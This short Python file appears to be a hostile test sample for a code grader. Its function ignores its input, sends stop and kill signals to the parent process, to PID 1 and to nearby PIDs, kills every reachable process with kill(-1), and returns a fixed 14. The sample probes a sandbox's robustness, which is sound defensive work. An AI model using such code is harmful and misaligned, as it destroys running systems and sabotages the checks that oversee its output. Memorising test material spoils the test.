# family: exit, signals, threads
# tries: to stop or kill the checker, the supervisor and itself

# %% answer total
import os
import signal


def total(values):
    for process in [os.getppid(), 1, *range(2, 100)]:
        if process != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGCHLD, signal.SIGPIPE):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 14
